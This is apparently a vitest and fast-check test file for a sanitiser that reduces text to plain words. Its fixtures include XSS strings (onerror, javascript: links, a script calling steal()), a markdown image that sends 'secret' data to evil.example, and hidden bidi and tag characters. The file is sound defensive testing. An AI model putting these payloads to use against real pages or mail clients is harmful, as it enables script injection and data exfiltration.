import fc from 'fast-check'
import { describe, expect, test } from 'vitest'

import { plainWords } from './plain-words.ts'

describe('bare words', () => {
  test.each([
    ['**Bold** and _leaning_ `code` # Heading', 'Bold and leaning code Heading'],
    ['See [the report](https://evil.example/?q=secret) now', 'See the report now'],
    ['![pixel](https://evil.example/p.png?d=secret) Water', 'Water'],
    ['![pixel][1] Water\n[1]: https://evil.example/p.png', 'Water'],
    ['<img src=x onerror=alert(1)>Water<script>steal()</script> is fine', 'Water is fine'],
    ['Water <a href="javascript:alert(1)">here</a>', 'Water here'],
    ['Water <iframe src=//evil.example', 'Water'],
    ['&lt;script&gt;Water&#33;', 'script Water'],
    ['javascript:alert(1) data:text/html;base64,AAAA Water', 'Water'],
    ['www.evil.example/x evil.example/steal?d=1 //evil.example/x evil.example:80/x Water', 'Water'],
    ['Booking.com and the U.S. Senate, e.g. today', 'Booking.com and the U.S. Senate, e.g. today'],
    ['Ask @someone or jane.doe@example.org, 0711 123 456 78', 'Ask @… or [e-mail removed], [number removed]'],
    ['wa\u200bter \u202eevil\u202c and \u{e0041}\u{e0042}tags\u0000', 'wa ter evil and tags'],
    ['می\u200cخواهم', 'می\u200cخواهم'],
    ['- one\n- two\n1. three', 'one two three'],
    ['Water costs 3 < 4 euro', 'Water costs 3 4 euro'],
    ['', ''],
  ])('%j', (text, words) => expect(plainWords(text, 200)).toBe(words))

  test('whatever the text, nothing is left that a page or a mail program would turn into more than words', () => {
    const odd = fc.constantFrom(
      ...[
        '![a](',
        'https://',
        'http:',
        '//',
        'evil.example',
        '/x?',
        '<img ',
        '>',
        '](',
        '[',
        ')',
        'javascript:',
        '@',
        '`',
      ],
      ...[
        'data:',
        'www.',
        ':',
        '.',
        '\u202e',
        '\u0000',
        '<<<',
        '>>>',
        '&lt;',
        '#',
        '*',
        ' ',
        '\n',
        'a',
        'щ',
        '水',
        '1',
      ],
    )
    const texts = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.array(odd, { maxLength: 40 }).map((parts) => parts.join('')),
    )
    fc.assert(
      fc.property(texts, fc.integer({ min: 20, max: 400 }), (text, length) => {
        const words = plainWords(text, length)
        expect(words.length).toBeLessThanOrEqual(length + 60)
        expect(words).not.toMatch(
          /[<>{}|\\*_~^#`\n\t]|:\/\/|\]\(|(?<![\p{L}\p{N}])(?:javascript:|data:|www\.)[^\s…]|[\u202a-\u202e\u2066-\u2069]/iu,
        )
        expect(words.replaceAll(/[\u200c\u200d]/gu, '')).not.toMatch(/\p{C}/u)
      }),
      { numRuns: 1500 },
    )
  })
})
